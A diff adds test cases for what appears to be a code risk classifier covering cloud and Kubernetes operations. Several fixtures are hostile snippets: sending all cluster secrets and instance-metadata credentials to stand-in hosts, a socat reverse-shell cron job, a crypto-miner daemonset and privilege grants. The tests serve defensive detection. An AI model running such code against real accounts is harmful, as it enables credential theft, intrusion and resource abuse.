@@ -1125,6 +1125,108 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             C,
         ),
+        # the cloud and cluster control plane
+        (
+            """
+            import boto3
+            iam = boto3.client("iam")
+            iam.attach_user_policy(UserName="x", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
+            """,
+            H,
+        ),
+        (
+            """
+            import boto3
+            boto3.client("iam").create_access_key(UserName="svc")
+            """,
+            H,
+        ),
+        (
+            """
+            import json, boto3
+            policy = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]}
+            boto3.client("s3").put_bucket_policy(Bucket="b", Policy=json.dumps(policy))
+            """,
+            H,
+        ),
+        (
+            """
+            import json, boto3
+            policy = {"Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::1:role/ci"}}]}
+            boto3.client("s3").put_bucket_policy(Bucket="b", Policy=json.dumps(policy))
+            """,
+            S,
+        ),
+        (
+            """
+            import base64, requests
+            from kubernetes import client, config
+            config.load_kube_config()
+            for s in client.CoreV1Api().list_secret_for_all_namespaces().items:
+                requests.post("https://example.net/in", data=str(s.data))
+            """,
+            C,
+        ),
+        (
+            """
+            from kubernetes import client, config
+            config.load_kube_config()
+            for pod in client.CoreV1Api().list_namespaced_pod("dev").items:
+                print(pod.metadata.name)
+            """,
+            S,
+        ),
+        (
+            """
+            import json, urllib.request
+            base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+            role = urllib.request.urlopen(base).read().decode()
+            creds = urllib.request.urlopen(base + role).read()
+            urllib.request.urlopen("https://example.com/c", data=creds)
+            """,
+            C,
+        ),
+        (
+            """
+            import requests
+            region = requests.get("http://169.254.169.254/latest/meta-data/placement/region", timeout=1).text
+            print(region)
+            """,
+            L,
+        ),
+        (
+            """
+            import boto3
+            ec2 = boto3.client("ec2")
+            for region in ("us-east-1", "eu-west-1"):
+                ec2.run_instances(ImageId="ami-1", InstanceType="p4d.24xlarge", MinCount=1, MaxCount=20)
+            """,
+            H,
+        ),
+        (
+            """
+            from kubernetes import client
+            shell = ["sh", "-c", "socat TCP:198.51.100.14:4444 EXEC:/bin/sh"]
+            manifest = {"spec": {"containers": [{"command": shell}]}}
+            client.BatchV1Api().create_namespaced_cron_job("kube-system", manifest)
+            """,
+            C,
+        ),
+        (
+            """
+            from kubernetes import client
+            ds = {"spec": {"containers": [{"image": "docker.io/example/xmrig:latest"}]}}
+            client.AppsV1Api().create_namespaced_daemon_set("kube-system", ds)
+            """,
+            H,
+        ),
+        # a command line shown to a person is not shipped anywhere
+        (
+            """
+            print("install with: curl -fsSL https://get.example.com | sh")
+            """,
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
